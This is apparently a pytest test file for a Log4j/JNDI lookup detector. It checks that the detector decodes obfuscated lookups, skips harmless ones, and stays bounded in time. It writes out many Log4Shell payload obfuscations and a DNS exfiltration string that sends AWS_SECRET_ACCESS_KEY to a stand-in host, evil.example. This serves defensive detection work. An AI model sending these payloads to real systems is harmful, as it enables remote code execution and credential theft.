"""Log4j-style decoding of lookups: each obfuscation of the grammar, and what must not match."""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from clearinghouse.scan.lookups import (
    _BACKSLASH,
    _backslash,
    describe,
    expand,
    jndi_payloads,
    normalise,
)


def hosts(text: str) -> list[str | None]:
    return [payload.host for _, payload in jndi_payloads(text)]


@pytest.mark.parametrize(
    ("text", "decoded"),
    [
        ("${jndi:ldap://e.com/a}", "${jndi:ldap://e.com/a}"),
        ("${${lower:j}ndi:ldap://e.com/a}", "${jndi:ldap://e.com/a}"),
        ("${${upper:j}${upper:n}di:ldap://e.com/a}", "${JNdi:ldap://e.com/a}"),
        ("${${::-j}${::-n}${::-d}${::-i}:ldap://e.com/a}", "${jndi:ldap://e.com/a}"),
        ("${${env:NaN:-j}ndi${env:NaN:-:}ldap://e.com/a}", "${jndi:ldap://e.com/a}"),
        ("${${date:'j'}ndi:ldap://e.com/a}", "${jndi:ldap://e.com/a}"),
        ("${${lower:${upper:${::-j}}}ndi:ldap://e.com/a}", "${jndi:ldap://e.com/a}"),
        ("${base64:JHtqbmRpOmxkYXA6Ly9lLmNvbS9hfQ==}", "${jndi:ldap://e.com/a}"),
        ("${JnDi:ldap://e.com/a}", "${JnDi:ldap://e.com/a}"),
        ("%24%7Bjndi%3Aldap%3A%2F%2Fe.com%2Fa%7D", "${jndi:ldap://e.com/a}"),
        ("%2524%257Bjndi%253Aldap%253A%252F%252Fe.com%252Fa%257D", "${jndi:ldap://e.com/a}"),
        ("\\u0024\\u007bjndi:ldap://e.com/a\\u007d", "${jndi:ldap://e.com/a}"),
        ("\\x24\\x7bjndi:ldap://e.com/a\\x7d", "${jndi:ldap://e.com/a}"),
        ("\\\\u0024{jndi:ldap://e.com/a}", "${jndi:ldap://e.com/a}"),  # JSON-escaped once
        ("\\" * 8 + "u0024" + "\\" * 8 + "u007Bjndi:ldap://e.com/a}", "${jndi:ldap://e.com/a}"),
        ("\\" * 3000 + "x24\\\\x7bjndi:ldap://e.com/a}", "${jndi:ldap://e.com/a}"),
        ("&#" + "0" * 5000 + "36;&#123;jndi:ldap://e.com/a}", "${jndi:ldap://e.com/a}"),
        ("&#36;&#123;jndi:ldap://e.com/a&#125;", "${jndi:ldap://e.com/a}"),
        ("&dollar;&lbrace;jndi:ldap://e.com/a&rbrace;", "${jndi:ldap://e.com/a}"),
        ("${jndi:ldap://e.com/a", "${jndi:ldap://e.com/a}"),  # a cut line is still an attempt
    ],
)
def test_each_obfuscation_decodes_to_the_lookup(text: str, decoded: str) -> None:
    ((ordinal, payload),) = jndi_payloads(f"GET /?q={text} HTTP/1.1")
    assert payload.decoded == decoded
    assert payload.host == "e.com"
    assert ordinal == 0


@pytest.mark.parametrize(
    "text",
    [
        "${HOME}/bin",
        "${user.dir}",
        "${foo:-bar}",
        "${env:PATH}",
        "${lower:JNDI}",  # yields the word, not a lookup
        "${::-jndi:ldap://e.com/a}",  # a default is a value, not a lookup
        "${}",
        "$ {jndi:ldap://e.com/a}",
        "jndi:ldap://e.com/a",
        "%24jndi",
    ],
)
def test_lookups_that_are_no_attack_are_not_reported(text: str) -> None:
    assert jndi_payloads(text) == []


def test_protocol_host_and_port_are_read_from_the_name() -> None:
    payload = describe("jndi:LDAP://User@Evil.Example:1389/Exploit")
    assert (payload.protocol, payload.host, payload.port) == ("ldap", "evil.example", 1389)
    exfil = describe("jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.evil.example/x")
    assert exfil.host == "${env:AWS_SECRET_ACCESS_KEY}.evil.example"
    assert describe("jndi:rmi://[2001:db8::1]:1099/o").host == "[2001:db8::1]"
    assert describe("jndi:ldap://e.com:99999/a").port is None
    assert describe("jndi:java:comp/env").protocol == "java"


def test_each_lookup_of_a_line_points_at_its_own_opening() -> None:
    line = "${foo} a=${jndi:ldap://one.com/a} b=%24%7Bjndi:rmi://two.com/b%7D"
    assert [(ordinal, p.host) for ordinal, p in jndi_payloads(line)] == [
        (1, "one.com"),
        (2, "two.com"),
    ]


def test_depth_and_rounds_are_bounded() -> None:
    deep = "${lower:" * 5000 + "j" + "}" * 5000
    value, found = expand(deep)
    assert found == []
    assert len(value) < len(deep)
    onion = "$"
    for _ in range(50):
        onion = onion.replace("%", "%25") if "%" in onion else "%24"
    assert normalise(onion) != "$"  # 50 layers: more than MAX_ROUNDS are left as they are


def test_a_run_of_backslashes_is_decoded_in_linear_time() -> None:
    # Before: _BACKSLASH retried every backslash of a run to its end; 0.5 s for the 8,192
    # characters decoded after a candidate, about 5 minutes for these.
    started = time.perf_counter()
    assert normalise("\\" * 200_000 + "u0024" + "\\" * 200_000) == "$" + "\\" * 200_000
    elapsed = time.perf_counter() - started
    assert elapsed < 2.0, f"{elapsed:.2f} s"


# The backslash step before it was made linear, kept as the definition the new one must agree with.
QUADRATIC_BACKSLASH = re.compile(r"\\+(?:[uU]([0-9A-Fa-f]{4})|[xX]([0-9A-Fa-f]{2}))")
ESCAPE_PIECES = ["u0024", "U007b", "x24", "X7B", "u00", "x2", "uZZZZ", "u", "x", *"04a${ "]


@settings(max_examples=500, database=None)
@given(
    st.lists(
        st.one_of(
            st.integers(1, 12).map(lambda n: "\\" * n),
            st.sampled_from(ESCAPE_PIECES),
        ),
        max_size=40,
    ).map("".join)
)
def test_the_linear_backslash_step_agrees_with_the_quadratic_one(text: str) -> None:
    assert _BACKSLASH.sub(_backslash, text) == QUADRATIC_BACKSLASH.sub(_backslash, text)


@pytest.mark.parametrize(
    ("text", "decoded"),
    [
        ("&#" + "0" * 5000 + "36;", "$"),
        ("&#" + "0" * 5000 + ";", "\ufffd"),
        ("&#" + "9" * 5000 + ";", "\ufffd"),  # beyond U+10FFFF, as html.unescape says
        ("&#00000000123", "{"),
        ("&#" + "0" * 5000 + "128;", "\u20ac"),  # html's Windows-1252 mapping still applies
    ],
)
def test_decimal_references_of_any_length_decode_as_html_does(text: str, decoded: str) -> None:
    # html.unescape alone raises ValueError past 4,300 digits (int's limit), which stopped
    # the scan of the rest of the file: one line could hide every attempt after it.
    assert normalise(text) == decoded
